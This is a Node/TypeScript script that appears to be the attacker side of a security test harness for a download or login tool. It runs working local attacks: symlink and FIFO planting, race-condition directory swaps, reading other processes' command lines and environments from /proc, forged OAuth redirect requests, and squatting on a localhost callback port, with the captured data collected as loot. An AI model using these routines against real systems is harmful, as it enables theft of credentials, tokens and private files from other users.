/**
 * What another user of the machine can try against somebody who logs in and downloads. Called as `attacker.mjs WAY CONFIG`,
 * and ended by SIGTERM, when it prints its counts. All that it gets hold of goes to its loot.
 */
import {
  appendFileSync,
  closeSync,
  constants,
  mkdirSync,
  openSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { spawnSync } from 'node:child_process'
import { connect, createServer, type Socket } from 'node:net'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'

type Config = {
  readonly loot: string
  readonly home: string
  readonly port: number
  /** Names that the user's outputs will have. */
  readonly outputs: readonly string[]
}

const [, , way = '', json = '{}', directory = ''] = process.argv
const config = JSON.parse(json) as Config
const counts: Record<string, number> = {}
process.on('SIGTERM', () => {
  console.log(JSON.stringify(counts))
  process.exit(0)
})

const ways: Readonly<Record<string, () => Promise<void>>> = { plant, watch, squat, read }
await ways[way]?.()

/** Counts what worked, and swallows what did not: most of it must not. */
function attempt<Result>(name: string, work: () => Result): Result | undefined {
  try {
    const result = work()
    counts[name] = (counts[name] ?? 0) + 1
    return result
  } catch {
    counts[`${name} (in vain)`] = (counts[`${name} (in vain)`] ?? 0) + 1
    return undefined
  }
}

function loot(text: string): void {
  appendFileSync(config.loot, `${text}\n`)
}

/** Leads drafts and outputs elsewhere: by links, by pipes, by what looks like a leftover, by renaming while they are in use. */
async function plant(): Promise<void> {
  for (let round = 0; ; round++) {
    const output = join(directory, config.outputs[round % config.outputs.length] ?? 'out')
    const victim = [join(config.home, '.profile'), config.home, join(config.home, 'inbox')][round % 3] ?? config.home
    attempt('link at an output', () => symlinkSync(victim, output))
    await rooms(victim)
    attempt('link removed', () => rmSync(output))
    attempt('pipe at an output', () => {
      if (spawnSync('mkfifo', ['-m', '0666', output]).status !== 0) throw new Error('in vain')
    })
    const pipe = attempt('pipe opened', () => openSync(output, constants.O_RDWR | constants.O_NONBLOCK))
    await rooms(victim)
    if (pipe !== undefined) {
      attempt('pipe read', () => loot(String(readFileSync(pipe))))
      closeSync(pipe)
    }
    attempt('pipe removed', () => rmSync(output))
    const leftover = `${output}.4194305-${round.toString(16).padStart(12, '0')}.part`
    attempt('leftover planted', () => {
      mkdirSync(leftover, { mode: 0o777 })
      for (let file = 0; file < 50; file++) writeFileSync(join(leftover, `file${file}`), '')
    })
    await rooms(victim)
    attempt('leftover swapped', () => {
      renameSync(leftover, `${leftover}.away`)
      symlinkSync(victim, leftover)
    })
    await rooms(victim)
    for (const path of [leftover, `${leftover}.away`]) attempt('removed', () => rmSync(path, { recursive: true }))
    if (round % 20 === 0) clear()
  }
}

/** Swaps each private directory of the user's that stands there, back and forth. */
async function rooms(victim: string): Promise<void> {
  for (let look = 0; look < 60; look++) {
    for (const name of readdirSync(directory).filter((one) => /\.\d+-[\da-f]{12}\.part$/.test(one))) {
      const room = join(directory, name)
      attempt('draft swapped', () => {
        renameSync(room, `${room}.away`)
        symlinkSync(victim, room)
      })
      await sleep(1)
      attempt('draft put back', () => {
        rmSync(room)
        renameSync(`${room}.away`, room)
      })
      attempt('draft read', () => loot(readFileSync(join(room, 'draft'), 'utf8')))
    }
    await sleep(1)
  }
}

/** The user's outputs in the attacker's own directory do not pile up. */
function clear(): void {
  for (const name of readdirSync(directory))
    attempt('output taken away', () => rmSync(join(directory, name), { recursive: true }))
}

/** Reads every command line, asks for each address in it, sends redirects of its own, and fills the listener. */
async function watch(): Promise<void> {
  const sockets: Socket[] = []
  for (;;) {
    for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
      const line = attempt('command line read', () => readFileSync(`/proc/${pid}/cmdline`, 'utf8')) ?? ''
      if (line === '' || line.includes('attacker')) continue
      loot(line.replaceAll('\0', ' '))
      for (const [address] of line.matchAll(/http:\/\/localhost:\d+\/[\w/?=&.-]*/g)) await ask(address)
    }
    await ask(`http://127.0.0.1:${config.port}/?code=planted&state=planted`)
    for (let one = 0; one < 40; one++) {
      const socket = connect(config.port, one % 2 === 0 ? '127.0.0.1' : '::1')
      socket
        .on('connect', () => {
          attempt('connection', () => {})
        })
        .on('error', () => {})
      sockets.push(socket)
    }
    while (sockets.length > 200) sockets.shift()?.destroy()
    await sleep(5)
  }
}

async function ask(address: string): Promise<void> {
  try {
    const response = await fetch(address, { redirect: 'manual', signal: AbortSignal.timeout(2_000) })
    counts['request answered'] = (counts['request answered'] ?? 0) + 1
    loot(`${address} ${response.status} ${JSON.stringify([...response.headers])} ${await response.text()}`)
  } catch {
    counts['request dropped'] = (counts['request dropped'] ?? 0) + 1
  }
}

/** Holds the port of the redirect now and then, and answers whatever comes. */
async function squat(): Promise<void> {
  for (;;) {
    const server = createServer((socket) => {
      socket.on('data', (text) => loot(String(text))).on('error', () => {})
      socket.end('HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n')
    })
    await new Promise<void>((done) => {
      server.once('error', () => done())
      server.listen(config.port, '127.0.0.1', () => {
        attempt('port held', () => {})
        done()
      })
    })
    await sleep(300)
    server.close()
    await sleep(5_000)
  }
}

/** Reads what it can of the user's files and processes. */
async function read(): Promise<void> {
  for (;;) {
    for (const path of [config.home, join(config.home, 'runtime'), join(config.home, '.local/share')]) {
      attempt('directory read', () => loot(readdirSync(path, { recursive: true }).join('\n')))
    }
    for (const name of ['.gitconfig', 'runtime', 'opened']) {
      attempt('file read', () => loot(readFileSync(join(config.home, name), 'utf8')))
    }
    for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
      const status = attempt('status read', () => readFileSync(`/proc/${pid}/status`, 'utf8')) ?? ''
      if (!/^Uid:\t1000\t/m.test(status)) continue
      attempt('environment read', () => loot(readFileSync(`/proc/${pid}/environ`, 'utf8')))
      attempt('open files read', () => loot(readdirSync(`/proc/${pid}/fd`).join(' ')))
    }
    await sleep(10)
  }
}
